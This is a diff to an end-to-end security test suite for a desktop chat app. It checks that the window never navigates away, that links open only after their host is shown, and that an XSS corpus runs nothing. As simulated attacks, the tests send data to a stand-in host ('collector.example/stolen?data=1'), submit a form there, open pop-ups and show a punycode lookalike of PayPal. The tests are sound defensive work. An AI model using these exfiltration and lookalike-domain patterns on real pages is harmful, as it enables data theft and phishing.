@@ -12,7 +12,7 @@ import fs from "node:fs";
 import path from "node:path";
 import { test } from "node:test";
 import { setTimeout as sleep } from "node:timers/promises";
-import { allowInDialog, alive, answerSays, BIN, everythingOverHttp, fakeBrowser, largestWindow, launch, listeningPort, nativeWindow, pressIn, run, screenshotScreen, sendInNewConversation, sidebarIds, tempHome, textOf, tid, withMockModel } from "./harness.mjs";
+import { allowInDialog, alive, answerSays, BIN, everythingOverHttp, fakeBrowser, largestWindow, launch, listeningPort, nativeWindow, pressIn, run, screenshotScreen, sendInNewConversation, sidebarIds, tempHome, textOf, tid, windowGone, withMockModel } from "./harness.mjs";
 
 /** Calls one of the app's commands straight from the page, as a hostile script could. */
 function invokeFromPage(b, command, args) {
@@ -28,10 +28,21 @@ function invokeFromPage(b, command, args) {
   );
 }
 
-/** No native window titled `title` appears within `ms`. */
-async function noNativeWindow(title, ms = 1500) {
-  await sleep(ms);
+/** No native window titled `title` is up: checked once the app said it was done (a command's
+ * answer, a refusal logged), never after a guessed wait. */
+function noNativeWindow(title) {
   assert.equal(run("xdotool", ["search", "--name", title]).stdout.trim(), "", `a window “${title}” appeared`);
+}
+
+/** How many times the app logged that the window tried to leave it (its navigation guard). */
+function refusalsIn(home) {
+  const logs = path.join(home, "logs");
+  return fs.readdirSync(logs).filter((f) => f.endsWith(".log")).reduce((n, f) => n + fs.readFileSync(path.join(logs, f), "utf8").split("tried to leave the app").length - 1, 0);
+}
+
+/** Waits until the navigation guard has refused one more navigation than `before`. */
+async function refusedOnce(b, home, before, what) {
+  await b.waitUntil(async () => refusalsIn(home) > before, { timeout: 10000, timeoutMsg: `${what} never reached the navigation guard` });
 }
 
 test("window_never_navigates_away and a link opens only after its real host is shown", async () => {
@@ -43,21 +54,25 @@ test("window_never_navigates_away and a link opens only after its real host is s
     const own = await b.execute(() => location.href);
     assert.match(own, /^tauri:\/\/localhost/);
 
-    // A script, a form and a pop-up all stay put.
+    // A script, a form and a pop-up all stay put: each is refused (and logged) by the guard.
+    let before = refusalsIn(home);
     await b.execute(() => location.assign("https://collector.example/stolen?data=1"));
-    await sleep(800);
+    await refusedOnce(b, home, before, "location.assign");
     assert.equal(await b.execute(() => location.href), own, "location.assign left the app");
-    await b.execute(() => {
+    // A form never gets as far as the guard: the policy's form-action 'none' stops it, and
+    // says so with a violation event, which is what is waited for.
+    const stopped = await b.executeAsync((done) => {
+      document.addEventListener("securitypolicyviolation", (e) => done(e.violatedDirective), { once: true });
       const form = document.createElement("form");
       form.action = "https://collector.example/post";
       form.method = "post";
       document.body.append(form);
       form.submit();
     });
-    await sleep(800);
+    assert.equal(stopped, "form-action", "the form was not stopped by the content security policy");
     assert.equal(await b.execute(() => location.href), own, "a form left the app");
-    await b.execute(() => window.open("https://collector.example/popup"));
-    await sleep(800);
+    // window.open answers at once: null when nothing was opened.
+    assert.equal(await b.execute(() => window.open("https://collector.example/popup") === null), true, "window.open opened something");
     assert.equal((await b.getWindowHandles()).length, 1, "a pop-up opened");
     await b.$(tid("new-conversation")).click();
     await b.waitUntil(async () => (await sidebarIds(b)).length === 1, { timeoutMsg: "the app stopped working" });
@@ -75,7 +90,7 @@ test("window_never_navigates_away and a link opens only after its real host is s
     let dialog = await nativeWindow("Open xn--pypal-4ve.com in your browser?");
     screenshotScreen("threat-link-dialog");
     pressIn(dialog, "Escape");
-    await sleep(800);
+    await windowGone("Open xn--pypal-4ve.com in your browser?");
     assert.ok(!fs.existsSync(opened), "a link opened that the person did not allow");
     assert.equal(await b.execute(() => location.href), own, "a clicked link navigated the window");
 
@@ -88,8 +103,7 @@ test("window_never_navigates_away and a link opens only after its real host is s
 
     // WebKit's own menu on the link: "Open Link" and "Open Link in New Window" leave the
     // window where it is, open no other window and ask nothing.
-    const refusals = () =>
-      fs.readdirSync(path.join(home, "logs")).reduce((n, f) => n + fs.readFileSync(path.join(home, "logs", f), "utf8").split("tried to leave the app").length - 1, 0);
+    const refusals = () => refusalsIn(home);
     for (const [item, keys] of [["open-link", "Down Return"], ["open-link-in-new-window", "Down Down Return"]]) {
       const before = refusals();
       const at = await b.execute(() => {
@@ -103,10 +117,13 @@ test("window_never_navigates_away and a link opens only after its real host is s
       screenshotScreen(`threat-link-menu-${item}`);
       const chosen = run("xdotool", ["key", "--delay", "150", ...keys.split(" ")]);
       assert.equal(chosen.status, 0, chosen.stderr);
-      await sleep(1000);
+      // "Open Link" reaches the guard, which logs its refusal; "in a new window" leaves no
+      // trace to wait for (WebKit opens nothing), so its menu is given a moment to act.
+      if (item === "open-link") await refusedOnce(b, home, before, "the menu's Open Link");
+      else await sleep(1000);
       assert.equal(await b.execute(() => location.href), own, `the menu's ${item} navigated the window`);
       assert.equal((await b.getWindowHandles()).length, 1, `the menu's ${item} opened a window`);
-      await noNativeWindow("in your browser?");
+      noNativeWindow("in your browser?");
       // "Open Link" reaches Rust's guard (which refuses and logs it): the menu did act.
       if (item === "open-link") assert.ok(refusals() > before, "the menu's Open Link never reached the navigation guard");
     }
@@ -117,7 +134,8 @@ test("window_never_navigates_away and a link opens only after its real host is s
       const answer = await invokeFromPage(b, "open_link", { url });
       assert.deepEqual(answer, { ok: false, kind: "invalid_input" }, url);
     }
-    await noNativeWindow("in your browser?");
+    // Each command has answered: a dialog it asked would be up by now.
+    noNativeWindow("in your browser?");
     assert.equal(fs.readFileSync(opened, "utf8").trim().split("\n").length, 1);
   } finally {
     await app.close();
@@ -297,7 +315,7 @@ test("oauth_sign_in_opens_nothing_until_the_person_sees_its_host, and a file: si
     let dialog = await nativeWindow(title);
     screenshotScreen("threat-oauth-dialog");
     pressIn(dialog, "Escape");
-    await sleep(500);
+    await windowGone(title);
     assert.equal(fs.existsSync(opened), false, "the browser opened before the person said yes");
     assert.equal(await textOf(b, `${item("account")} ${tid("server-state")}`), "Needs sign-in");
 
@@ -511,7 +529,11 @@ test("dompurify_xss_corpus_runs_nothing in model text, tool output, tool names a
     await app.screenshot("threat-corpus-servers");
     const onServers = await dangerousIn(b, tid("server-item"));
 
-    await sleep(500);
+    // Every image has loaded or failed by now, so an onerror payload would have run.
+    await b.waitUntil(async () => b.execute(() => Array.from(document.images).every((img) => img.complete)), {
+      timeout: 10000,
+      timeoutMsg: "images were still loading",
+    });
     const canary = await b.execute(() => window.__canary);
     assert.deepEqual(canary, [], "a payload ran (or tried to)");
     assert.deepEqual(inConversation, [], "something that could run was left in the conversation");
